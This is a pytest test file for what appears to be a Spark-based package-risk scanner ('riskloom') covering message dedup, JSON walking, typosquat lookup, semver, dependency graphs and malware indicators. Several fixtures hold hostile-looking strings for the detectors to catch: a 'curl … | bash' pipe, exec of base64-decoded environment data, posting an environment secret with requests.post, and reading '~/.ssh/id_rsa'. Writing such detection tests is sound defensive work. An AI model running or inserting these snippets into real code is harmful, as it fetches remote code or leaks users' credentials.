import datetime
import json

import pytest
from pyspark.sql import functions as F

from riskloom.functions import json_walk
from riskloom.operators import behavior, dependencies, evidence, files, indicators, integrity, lookups, message_dedup, nested_records, tables, vectors, versions

QUEUE = "id bigint, batch_id bigint, ecosystem string, package string, version string, archive_url string, priority int, source_event string, enqueued_at timestamp, bits string, _place string"


def written(spark, tmp_path, rows, schema, name="t"):
    path = str(tmp_path / name)
    spark.createDataFrame(rows, schema).repartition(3).write.parquet(path)
    return spark.read.parquet(path)


def at(minute):
    return datetime.datetime(2025, 1, 1, 0, minute)


def job(i, package, version="1", event="e", eco="PyPI", minute=None):
    return (i, 0, eco, package, version, None, 1, event, None if minute is None else at(minute), "x", "y")


def test_messages_keep_the_first_delivery(spark, tmp_path):
    rows = [
        job(1, "A_b", minute=5), job(2, "a-B ", minute=3), job(3, "a.b", minute=3), job(4, "a--b\n", minute=None),
        job(5, "A_b", eco="npm", minute=1), job(6, "a-b", eco="npm", minute=1),
        job(7, None, minute=2), job(8, None, minute=1), job(9, "z", version=None), job(10, "z", version=None),
    ]
    q = written(spark, tmp_path, rows, QUEUE)
    assert {r.id for r in message_dedup.repeated_messages(q).collect()} == {1, 3, 4, 7, 10}
    kept = message_dedup.kept_messages(q)
    assert kept.columns == q.columns
    assert {r.id for r in kept.collect()} == {2, 5, 6, 8, 9}


def test_messages_of_repeated_and_hot_rows(spark, tmp_path):
    rows = [job(i, "hot", minute=i % 50) for i in range(3000)] + [job(5000 + i, f"p{i}", minute=1) for i in range(500)] + [job(0, "hot", minute=0)]
    q = written(spark, tmp_path, rows, QUEUE)
    kept = message_dedup.kept_messages(q).collect()
    assert len(kept) == 501 and [r.id for r in kept if r.package == "hot"] == [0]
    assert message_dedup.repeated_messages(q).count() == 3000


def test_messages_of_an_empty_queue(spark, tmp_path):
    q = written(spark, tmp_path, [], QUEUE)
    assert message_dedup.repeated_messages(q).count() == 0 and message_dedup.kept_messages(q).count() == 0


def found(spark, rows):
    df = spark.createDataFrame(rows, "id bigint, raw_event string, extracted_iocs string, pre int, parent string")
    links = nested_records.link_elements(nested_records.labelled_nodes(df, items=True)).collect()
    return {(r.obs_id, r.field, r.item, r.parent) for r in links}


def test_nested_elements_and_parents(spark):
    text = json.dumps({"a": [{"b.c": [1, None]}, []], "d": {"e": [[2]]}})
    expected = {("/a/0", ""), ("/a/1", ""), ("/a/0/b.c/0", "/a/0"), ("/a/0/b.c/1", "/a/0"), ("/d/e/0", ""), ("/d/e/0/0", "/d/e/0")}
    rows = [(1, text, None, 0, "x"), (1, text, None, 0, "x"), (2, json.dumps(text), "", 0, "x"), (3, "{", "[1, NaN]", 0, "x"), (4, '"[1]x"', '"plain"', 0, "x")]
    got = found(spark, rows)
    assert {(i, p) for o, f, i, p in got if o == 1 and f == "raw_event"} == expected
    assert {(i, p) for o, f, i, p in got if o == 2} == expected
    assert not [g for g in got if g[0] in (3, 4)]


def test_nested_depth_and_width(spark):
    deep = "[" * 6000 + "]" * 6000
    wide = json.dumps([[k] for k in range(20000)])
    got = found(spark, [(1, deep, wide, 0, "")])
    assert sum(f == "raw_event" for _, f, _, _ in got) == 5999
    assert sum(f == "extracted_iocs" for _, f, _, _ in got) == 40000
    assert (1, "extracted_iocs", "/7/0", "/7") in got
    assert found(spark, []) == set()


def test_numbers_stay_as_they_are_written(spark):
    texts = ["1.10", "1e400", "12345678901234567890.123", "-0", "7" * 5000, "1E+2"]
    df = spark.createDataFrame([(1, "[" + ",".join(texts) + "]", '"5"', 0)], "id bigint, raw_event string, extracted_iocs string, copy int")
    nodes = nested_records.labelled_nodes(df)
    assert [r.text for r in nested_records.node_table(nodes, "number").orderBy("pre").collect()] == texts
    assert [(r.field, r.text) for r in nested_records.node_table(nodes, "string").collect()] == [("extracted_iocs", "5")]
    assert json_walk._pairs('[1.10, true, null, "a"]') == ["1.10", True, None, "a"] and json_walk.parse('"7"') == (True, "7")


def test_node_tables_of_deep_records_and_repeated_rows(spark):
    deep = "[" * 20000 + "1" + "]" * 20000
    df = spark.createDataFrame([(1, deep, '{"a": {"b": [true, null]}}')] * 2 + [(2, None, "{")], "id bigint, raw_event string, extracted_iocs string")
    tables = {k: nested_records.node_table(nested_records.labelled_nodes(df), k).collect() for k in nested_records.KINDS}
    assert {k: len(v) for k, v in tables.items()} == {"object": 2, "array": 20001, "string": 0, "number": 1, "boolean": 1, "null": 1}
    assert {(r.step, r.depth, r.element) for r in tables["null"]} == {("1", 3, True)}
    inner, = [r for r in tables["object"] if r.step == "a"]
    array, = [r for r in tables["array"] if r.step == "b"]
    assert inner.pre < array.pre and inner.post > array.post and array.depth == inner.depth + 1


def test_the_walk_agrees_with_the_standard_parser():
    texts = ['{"a": [1, {"b": "\\u00e9"}], "c": {}}', "[]", "3", '"x"', "[1, 2", "{'a': 1}", '{"a" 1}', "[1,]", "nul", " [ ] ", '{"a":1,"a":[2]}']
    for text in texts:
        try:
            expected = json.loads(text, parse_int=str, parse_float=str)
        except ValueError:
            with pytest.raises(ValueError):
                json_walk._pairs(text)
        else:
            assert json_walk._pairs(text) == expected
    labels = json_walk.label(json.loads('{"a": [1, [2]]}'))
    for a in labels:
        for b in labels:
            inside = b[8].startswith(a[8] + "/")
            assert inside == (a[0] < b[0] and a[1] > b[1])


def test_names(spark):
    probes = spark.createDataFrame([("PyPI", "reqests"), ("PyPI", "flask"), ("npm", "reqests"), ("PyPI", None), ("PyPI", "ab")], "ecosystem string, package string")
    targets = spark.createDataFrame([("PyPI", "requests"), ("PyPI", "Flask"), ("PyPI", "flak"), ("PyPI", "requests")], "ecosystem string, package string")
    got = {(r.ecosystem, r.package, r.candidate, r.distance) for r in lookups.similar_names(probes, targets).collect()}
    assert got == {("PyPI", "reqests", "requests", 1), ("PyPI", "flask", "flak", 1)}


def test_semver(spark):
    cases = [
        ("1.4.0", "^1.2.0", True), ("2.0.0", "^1.2.0", False), ("0.2.9", "^0.2.3", True), ("0.3.0", "^0.2.3", False), ("0.0.9", "^0.0.3", True),
        ("1.2.9", "~1.2.3", True), ("1.3.0", "~1.2.3", False), ("1.0.0", ">=1.0.0", True), ("0.9.9", ">1.0.0", False), ("3.1.0", "3.x", True),
        ("4.1.0", "3.x", False), ("1.2.5", "1.2.x", True), ("1.2.3", "*", True), ("1.2.3", "1.0.0 || ^1.2.0", True), ("x", "^1.0.0", None), ("1.0.0", "latest-ish", None),
        (None, "*", False), ("1.0.0", "9.9.9 || nope", False),
    ]
    df = spark.createDataFrame(cases, "version string, spec string, expected boolean")
    for r in df.select("*", versions.satisfies(F.col("version"), F.col("spec")).alias("got")).collect():
        assert r.got == r.expected, r


def test_groups_expand_once_and_survive_cycles():
    groups = {"a": ["x", {"include-group": "b"}], "b": ["y", {"include-group": "a"}], "c": [{"include-group": "none"}, "x", "x"]}
    assert dependencies.expand_groups(groups) == {"a": ["x", "y"], "b": ["y", "x"], "c": ["x"]}


def test_manifests(spark):
    schema = "ecosystem string, package string, version string, basename string, content string"
    rows = [
        ("npm", "p", "1", "package.json", '{"dependencies": {"a": "^1"}, "devDependencies": {"b": "2"}}'), ("npm", "p", "1", "package.json", "{"), ("npm", "p", "1", "package.json", None),
        ("PyPI", "q", "1", "setup.cfg", "[options]\r\ninstall_requires =\r\n    A_b>=1 ; python_version > '3'\r\n    c[x]\r\n[other]\r\nk = v\r\n"),
        ("PyPI", "r", "1", "pyproject.toml", '[project]\ndependencies = ["D.e>=2"]\n[dependency-groups]\ng = ["h"]\n'), ("PyPI", "r", "1", "pyproject.toml", "= broken"),
    ]
    got = {(r.package, r.name, r.spec, r.kind) for r in dependencies.all_dependencies(spark.createDataFrame(rows, schema)).collect()}
    assert got == {("p", "a", "^1", "direct"), ("p", "b", "2", "dev"), ("q", "a-b", ">=1", "direct"), ("q", "c", "", "direct"), ("r", "d-e", ">=2", "direct"), ("r", "h", "", "dev")}


def test_reach_stops_at_cycles(spark):
    edges = spark.createDataFrame([(1, 2), (2, 1), (2, 3), (3, 4)], "parent bigint, child bigint")
    roots = spark.createDataFrame([(1,)], "root bigint")
    assert {(r.node, r.depth) for r in dependencies.reachable(edges, roots, 2).collect()} == {(2, 1), (3, 2)}
    assert {(r.node, r.depth) for r in dependencies.reachable(edges, roots, 9).collect()} == {(2, 1), (3, 2), (4, 3)}


def test_calls_follow_aliases_and_order(spark):
    code = "import os as o\nfrom base64 import b64decode as d\nx = o.environ['A']\nexec(d(o.getenv('k')))\nrequests.post(u)\n"
    rows = [(1, "python ", code), (2, "python", "def"), (3, "python", None), (4, "javascript", "eval(a)")]
    df = spark.createDataFrame(rows, "file_id bigint, language string, content string")
    got = sorted((r.file_id, r["at"], r.name, r.dimension) for r in behavior.python_calls(df).collect())
    assert [g[2:] for g in got] == [("os.environ.__getitem__", "I"), ("exec", "X"), ("base64.b64decode", "E"), ("os.getenv", "I"), ("requests.post", "T")]
    assert [r.name for r in behavior.javascript_calls(df).collect()] == ["eval"]


def test_weak_hits_need_a_decisive_one(spark):
    rows = [(1, "try: x\nexcept: pass"), (2, "curl http://a | bash\nexcept: pass"), (3, None), (4, "")]
    df = spark.createDataFrame(rows, "id bigint, text string")
    e = {(r.id, r.code): (r.severity, r.verdict) for r in indicators.escalated(indicators.best_hits(indicators.line_hits(df, "id", "text"), "id"), "id").collect()}
    assert e == {(1, "DEF-006"): ("LOW", "benign"), (2, "NET-007"): ("HIGH", "malicious"), (2, "DEF-006"): ("LOW", "benign")}


def test_verdict_precedence(spark):
    rows = [("a", "HIGH", "malicious", 0.9, 0.9), ("b", "MEDIUM", "suspicious", 0.7, 0.88), ("c", "MEDIUM", "suspicious", 0.6, 0.72), ("d", "LOW", "suspicious", 0.6, 0.5)]
    df = spark.createDataFrame(rows, "k string, severity string, review string, confidence double, similarity double")
    subjects = spark.createDataFrame([(x,) for x in "abcde"], "k string")
    got = {r.k: r.verdict for r in evidence.verdicts(subjects, df, "k").collect()}
    assert got == {"a": "MALICIOUS", "b": "HIGH_RISK", "c": "SUSPICIOUS", "d": "CLEAN", "e": "CLEAN"}


def test_upsert_is_idempotent(spark):
    schema = "k bigint, v string, t bigint, first string"
    old = spark.createDataFrame([(1, "a", 1, "f1"), (2, "b", 1, "f2")], schema)
    new = spark.createDataFrame([(2, "c", 2, "g2"), (3, "d", 2, None), (3, "e", 3, None)], schema)
    once = tables.latest_wins(old, new, ["k"], F.col("t"), keep_old=["first"])
    twice = tables.latest_wins(once, new, ["k"], F.col("t"), keep_old=["first"])
    expected = {(1, "a", 1, "f1"), (2, "c", 2, "f2"), (3, "e", 3, None)}
    assert {tuple(r) for r in once.collect()} == expected == {tuple(r) for r in twice.collect()}
    with pytest.raises(ValueError):
        tables.delete_matching(old)


def test_hmac_and_merkle(spark):
    import hashlib
    import hmac

    for key in (b"k", b"long" * 40):
        row = spark.createDataFrame([("message é",)], "m string").select(integrity.hmac_sha256(key, F.col("m")).alias("h")).first()
        assert row.h == hmac.new(key, "message é".encode(), hashlib.sha256).hexdigest()
    h = lambda s: hashlib.sha256(s.encode()).hexdigest()
    assert integrity.merkle_root([]) == "" and integrity.merkle_root(["a"]) == "a"
    assert integrity.merkle_root(["a", "b", "c"]) == h(h("ab") + "c")


def test_nearest_handles_nulls_and_ties(spark):
    rows = [(1, [1.0, 0.0]), (2, [1.0, 0.0]), (3, [0.0, 1.0]), (4, None)]
    df = spark.createDataFrame(rows, "vec_id bigint, embedding array<float>")
    got = [(r.query_id, r.neighbour_id) for r in vectors.nearest(df, df.where("vec_id IN (1, 4)"), 2).orderBy("place").collect()]
    assert got == [(1, 2), (1, 3)]
    assert vectors.nearest(df, df.where("vec_id = 4"), 2).count() == 0


def test_imports_keep_scopes(spark):
    code = "import a from '@s/x/y';\nconst b = require('left/pad');\nconst c = require('fs');\nimport('./own');\nexport { z } from 'q';\n"
    df = spark.createDataFrame([("npm", "p", "1", "a.js", "javascript", code)], "ecosystem string, package string, version string, path string, language string, content string")
    assert {r.module for r in files.javascript_imports(df).collect()} == {"@s/x", "left", "q"}


def test_assessment(spark):
    from riskloom.plans import assessment

    queue = spark.createDataFrame([("PyPI", "evil_pkg", "1"), ("PyPI", "reqests", " 2"), ("PyPI", "fine", "3")], "ecosystem string, package string, version string")
    code = "import os, requests\nk = os.getenv('A')\nrequests.post('u', data=k)\n# curl http://a | bash\n"
    f = [(1, "PyPI", "fine", "3", "python", code), (1, "PyPI", "fine", "3", "python", code), (2, "PyPI", "Evil.pkg", "1", "python", code), (3, "npm", "calm", "1", "javascript", None)]
    schema = "file_id bigint, ecosystem string, package string, version string, language string, content string, path string, basename string"
    source = spark.createDataFrame([(*r, "a/b.x", "b.x") for r in f], schema)
    bad = spark.createDataFrame([("A1", "PyPI", "evil-pkg", None, "malicious_package")], "advisory_id string, ecosystem string, package string, version_glob string, attack_type string")
    popular = spark.createDataFrame([("PyPI", "requests", 1)], "ecosystem string, package string, rank int")
    got = {(r.package, r.version): (r.evidence_count, r.verdict) for r in assessment.assessed(queue, source, bad, popular).collect()}
    assert got[("evil-pkg", "1")] == (1, "MALICIOUS") and got[("calm", "1")] == (0, "CLEAN") and got[("reqests", "2")] == (1, "HIGH_RISK")
    assert got[("fine", "3")][1] in ("HIGH_RISK", "MALICIOUS") and len(got) == 4
    assert assessment.assessed(queue.limit(0), source.limit(0), bad, popular).count() == 0


def test_change_outcomes(spark):
    from riskloom.operators import changes

    calls = [("npm", "p", "1.9.0", "eval", "X"), ("npm", "p", "1.10.0", "eval", "X"), ("npm", "p", "1.10.0", "fetch", "T"), ("npm", "p", "1.10.0", "atob", "E"), ("npm", "q", "1", "eval", "X")]
    df = spark.createDataFrame(calls, "ecosystem string, package string, version string, name string, dimension string")
    new = changes.new_calls(df)
    assert {(r.version, r.before_1, r.name) for r in new.collect()} == {("1.10.0", "1.9.0", "fetch"), ("1.10.0", "1.9.0", "atob")}
    assert [(r.dimensions, r.severity) for r in changes.change_severity(new).collect()] == [("ET", "HIGH")]


def test_sequences_cross_chunks(spark, monkeypatch):
    import random
    import re

    from riskloom.catalogs import SEQUENCES

    monkeypatch.setattr(behavior, "CHUNK", 30)
    rng = random.Random(1)
    texts = {k: "".join(rng.choices("IEXT" if k % 2 else "III E", k=rng.randint(0, 200))) for k in range(40)}
    rows = [(k, i, c) for k, t in texts.items() for i, c in enumerate(t)]
    df = spark.createDataFrame(rows, "k int, i int, c string")
    letter = F.when(F.col("c") != " ", F.col("c"))
    got = {(r.k, r.pattern): (r.start, r.matched) for r in behavior.mined(behavior.traces(df, "k", ["i"], letter), "k").collect()}
    expected = {(k, code): (m.start(), m[0]) for k, t in texts.items() for code, _, p in SEQUENCES if (m := re.search(p, t.replace(" ", "")))}
    assert got == expected and len(expected) > 50


def test_capabilities_and_metadata(spark):
    from riskloom.operators import capabilities, metadata

    schema = "file_id bigint, ecosystem string, package string, version string, language string, content string"
    rows = [(1, "PyPI", "p", "1", "python", "import os\nos.system(os.environ['A'])\nopen('~/.ssh/id_rsa')\nrequests.get(u)"), (2, "npm", "q", "1", "javascript", "fetch('u')"), (3, "npm", "q", "1", "javascript", None)]
    found = capabilities.file_capabilities(spark.createDataFrame(rows, schema))
    got = {r.package: (r.capabilities, r.classes, r.trifecta) for r in capabilities.exposure(found).collect()}
    assert got == {"p": ("credential-paths,env-secrets,network,shell", "ABC", True), "q": ("network", "AC", False)}
    declared = spark.createDataFrame([("PyPI", "p", "1", "network"), ("PyPI", "p", "1", "shell")], "ecosystem string, package string, version string, capability string")
    assert {(r.package, r.capability, r.severity) for r in capabilities.undeclared(found, declared).collect()} == {("p", "credential-paths", "HIGH"), ("p", "env-secrets", "MEDIUM"), ("q", "network", "MEDIUM")}
    urls = {"https://github.com/a/b.git": "a/b", "git+https://github.com/a/b": "a/b", "git@github.com:a/b.git": "a/b", "https://x.example/a/b": None, "https://github.com/a/b#readme": "a/b"}
    df = spark.createDataFrame([(u,) for u in urls], "u string")
    assert {r.u: r.s for r in df.select("u", metadata.repository(F.col("u")).alias("s")).collect()} == urls
    checks = spark.createDataFrame([("Maintained", 2.0), ("Maintained", -1.0), ("Other", 0.0)], "name string, score double")
    assert [(r.name, r.score) for r in metadata.weak_checks(checks).collect()] == [("Maintained", 2.0)]
    scores = spark.createDataFrame([(9.8,), (7.0,), (4.0,), (1.0,), (None,)], "s double")
    assert [r[0] for r in scores.select(metadata.cvss_severity(F.col("s"))).collect()] == ["CRITICAL", "HIGH", "MEDIUM", "LOW", "UNKNOWN"]


def test_long_quoted_strings_are_decoded(spark):
    import base64

    text = "import os; print(os.environ)\n" * 40
    values = [base64.b64encode(text.encode()).decode(), text.encode().hex()]
    df = spark.createDataFrame([(k, f"x = '{v}'") for k, v in enumerate(values)], "file_id bigint, content string")
    found = indicators.decoded_strings(indicators.suspicious_strings(df, "file_id", "content")).collect()
    assert sorted((r.file_id, r.value, r.chars, r.encoding, r.decoded) for r in found) == [
        (0, values[0], len(values[0]), "base64", text), (1, values[1], len(values[1]), "hex", text),
    ]


def test_behavior_rules_count_all_days(spark, tmp_path):
    from riskloom import queries
    from riskloom.catalogs import BEHAVIOR_RULES

    code, need, _ = max(BEHAVIOR_RULES, key=lambda r: len(r[1]))
    kinds = {"I": "view", "E": "click", "X": "purchase", "T": "signup"}
    rows = [(7, kinds[letter], datetime.datetime(2024, 1, 10 + k)) for k, letter in enumerate(need)]
    spark.createDataFrame(rows, "user_id bigint, event_type string, ts timestamp").write.parquet(str(tmp_path / "events.parquet"))
    assert (7, code) in {(r.user_id, r.rule) for r in queries.queries()["behavior_rules"](spark, str(tmp_path)).collect()}


def test_relative_imports_of_any_depth(spark):
    code = "".join(f"require('{s}');\n" for s in ("../../x", "./../../x.js", ".", "..", "../../../x", "./d", "../../..", "../../../../x", "./", ".x"))
    paths = ["p/a/b/m.js", "p/x.js", "x.js", "p/a/b/index.js", "p/a/index.mjs", "p/a/b/d/index.cjs", "index.js", "p/a/b/.js"]
    rows = [("npm", "p", "1", p, "javascript", code if p.endswith("m.js") else "") for p in paths]
    df = spark.createDataFrame(rows, "ecosystem string, package string, version string, path string, language string, content string")
    assert {r.spec: r.target for r in files.resolved_imports(df).collect()} == {
        "../../x": "p/x.js", "./../../x.js": "p/x.js", ".": "p/a/b/index.js", "..": "p/a/index.mjs", "../../../x": "x.js", "./d": "p/a/b/d/index.cjs",
        "../../..": "index.js", "./": "p/a/b/index.js",
    }
